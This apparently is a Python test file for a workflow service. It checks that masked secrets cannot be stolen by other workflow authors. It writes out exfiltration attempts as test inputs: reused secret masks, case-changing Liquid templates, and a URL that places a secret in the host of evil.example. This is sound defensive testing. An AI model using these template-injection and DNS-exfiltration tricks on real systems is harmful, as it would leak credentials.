"""Who may write workflows sends secrets where they belong, and finds out none."""

import json
from typing import Any

from sqlalchemy.ext.asyncio import AsyncEngine

from pagersync.http import AsyncClient
from pagersync.secrets.literals import MASK
from tests.secrets.conftest import Called, Flows, Paging
from tests.secrets.test_canary import document, dumped

NAMED = "sUperSecret.Named-42xYz"
WRITTEN = "Zz9WrittenLiteralToken77aaBB"
BOTH = (NAMED.lower(), WRITTEN.lower())


async def save(api: AsyncClient, name: str, url: str, **params: Any) -> Any:
    """Save a workflow with one call; return the answer."""
    task = {"task_type": "http_client", "url": url, "succeed_on_status": "200", **params}
    trigger = {"trigger_type": "incident", "triggers": ["incident_created"]}
    given = document("workflows", name=name, tasks=[{"task_params": task}], trigger_params=trigger)
    answer = await api.post("/v1/workflows", json=given)
    assert answer.status_code == 201, answer.text
    return answer.json()["data"]


async def stolen(engine: AsyncEngine) -> list[str]:
    """Return which secrets stand in a row of the database, whatever was made of them."""
    rows = (await dumped(engine)).lower()
    return [secret for secret in BOTH if secret in rows]


async def test_a_mask_stands_for_nothing_but_where_its_secret_was_written(
    service_api: AsyncClient, flows: Flows, called: Called, engine: AsyncEngine
) -> None:
    headers = json.dumps({"Authorization": f"Bearer {WRITTEN}"})
    victim = await save(service_api, "Victim", f"{called.url}/hook", headers=headers)
    (mask,) = MASK.findall(json.dumps(victim))
    thief = await save(
        service_api,
        "Thief",
        f"{called.url}/hook",
        event_message=f"{mask} {{{{ '{mask}' | upcase }}}}",
        event_url=f"https://x.example/{mask}",
        post_to_incident_timeline=True,
    )
    await flows.declare()
    (run,) = await flows.ran(thief["id"])
    assert [task.status for task in await flows.tasks(run)] == ["completed"]
    await flows.ran(victim["id"])
    assert f"Bearer {WRITTEN}" in [r["headers"].get("authorization") for r in called.echo.requests]
    assert await stolen(engine) == []
    assert mask in await dumped(engine), "the timeline shows it as a text"


async def test_no_template_changes_a_secret_into_what_is_not_recognised_when_it_comes_back(
    service_api: AsyncClient, flows: Flows, called: Called, engine: AsyncEngine
) -> None:
    await service_api.post("/v1/secrets", json=document("secrets", name="A", value=NAMED))
    body = f'{{"token": "{WRITTEN}"}}'
    saved = await save(service_api, "Call", f"{called.url}/hook", method="POST", body=body)
    (mask,) = MASK.findall(json.dumps(saved))
    changed = (
        "{% capture x %}MASK{{ secrets.A }}{% endcapture %}{{ x | upcase }} {{ x | downcase }}"
    )
    (task,) = (await service_api.get(f"/v1/workflows/{saved['id']}/workflow_tasks")).json()["data"]
    params = {**task["attributes"]["task_params"], "body": changed.replace("MASK", mask)}
    given = document("workflow_tasks", task_params=params)
    assert (
        await service_api.put(f"/v1/workflow_tasks/{task['id']}", json=given)
    ).status_code == 200
    await flows.declare()
    (run,) = await flows.ran(saved["id"])
    assert [task.status for task in await flows.tasks(run)] == ["completed"]
    changed_secrets = {form for each in (NAMED, WRITTEN) for form in (each.upper(), each.lower())}
    (body,) = called.bodies
    assert not [each for each in changed_secrets if each in body]
    assert await stolen(engine) == []


async def test_a_secret_never_becomes_a_part_of_a_host_whatever_tags_stand_before_it(
    service_api: AsyncClient, flows: Flows, paging: Paging, engine: AsyncEngine
) -> None:
    del paging
    await service_api.post("/v1/secrets", json=document("secrets", name="A", value=NAMED))
    beginnings = ("http{% comment %}://127.0.0.1/{% endcomment %}", "http{{ '' }}")
    for number, beginning in enumerate(beginnings):
        url = f"{beginning}://{{{{ secrets.A }}}}.evil.example/"
        task = {"task_type": "http_client", "url": url, "succeed_on_status": "200"}
        trigger = {"trigger_type": "incident", "triggers": ["incident_created"]}
        name = f"Thief {number}"
        given = document(
            "workflows", name=name, tasks=[{"task_params": task}], trigger_params=trigger
        )
        answer = await service_api.post("/v1/workflows", json=given)
        if answer.status_code == 201:
            await flows.declare()
            run, *_ = await flows.ran(answer.json()["data"]["id"])
            (done,) = await flows.tasks(run)
            assert done.error == "a secret cannot be a part of the URL's host"
    assert await stolen(engine) == []


async def test_a_tag_inside_of_a_written_secret_is_still_rendered(
    service_api: AsyncClient, flows: Flows, called: Called
) -> None:
    headers = json.dumps({"Authorization": f"Bearer {WRITTEN}-{{{{ incident.title }}}}-{WRITTEN}"})
    saved = await save(service_api, "Call", f"{called.url}/hook", headers=headers)
    assert WRITTEN not in json.dumps(saved)
    await flows.declare(title="up")
    await flows.ran(saved["id"])
    (request,) = called.echo.requests
    assert request["headers"]["authorization"] == f"Bearer {WRITTEN}-up-{WRITTEN}"
